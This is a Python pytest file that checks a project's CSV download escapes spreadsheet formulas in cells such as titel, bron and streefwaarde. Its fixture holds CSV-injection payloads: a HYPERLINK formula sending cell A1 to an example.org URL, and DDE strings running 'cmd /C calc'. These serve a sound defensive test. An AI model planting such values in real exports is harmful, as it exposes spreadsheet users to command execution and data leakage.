"""What the build writes beside the pages, against hostile input (issue 21): no live spreadsheet formula
in programma.csv, and no two builds into one folder that overwrite each other's files half-way."""

from __future__ import annotations

import csv
import io
from types import MappingProxyType

import pytest
from policy_trace.items import Item, Programme
from policy_trace.views import downloads


def _item(item_id: str, title: str, **fields: str) -> Item:
    return Item(item_id, "criterium", title, "needs/a.md", 1, "", (), MappingProxyType(fields),
                MappingProxyType({}))


FORMULAS = {
    "CR-A": "=HYPERLINK(\"https://example.org/?\"&A1,\"klik\")",
    "CR-B": "+1+2",
    "CR-C": "-2+3+cmd|' /C calc'!A0",
    "CR-D": "@SUM(1+1)*cmd|' /C calc'!A0",
    "CR-E": "\t=1+1",
    "CR-F": "\r=1+1",
}


@pytest.mark.parametrize("item_id", sorted(FORMULAS))
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(item_id):
    title = FORMULAS[item_id]
    programme = Programme.from_items([_item(item_id, title, bron=title, streefwaarde="-5")])
    rows = list(csv.DictReader(io.StringIO(downloads.csv_text(programme, {}))))
    assert rows[0]["titel"] == "'" + title
    assert rows[0]["bron"] == "'" + title
    assert rows[0]["streefwaarde"] == "'-5"


def test_ordinary_cells_stay_as_they_are():
    item = _item("CR-GEWOON", "Aantal woningbranden", bron="CBS", streefwaarde="100")
    programme = Programme.from_items([item])
    rows = list(csv.DictReader(io.StringIO(downloads.csv_text(programme, {}))))
    assert (rows[0]["id"], rows[0]["titel"], rows[0]["bron"], rows[0]["streefwaarde"]) == (
        "CR-GEWOON", "Aantal woningbranden", "CBS", "100"
    )


def test_no_cell_of_the_csv_starts_a_formula():
    programme = Programme.from_items([_item(key, title, bron=title) for key, title in FORMULAS.items()])
    for row in csv.reader(io.StringIO(downloads.csv_text(programme, {}))):
        assert not [cell for cell in row if cell.startswith(downloads.FORMULA_STARTS)]
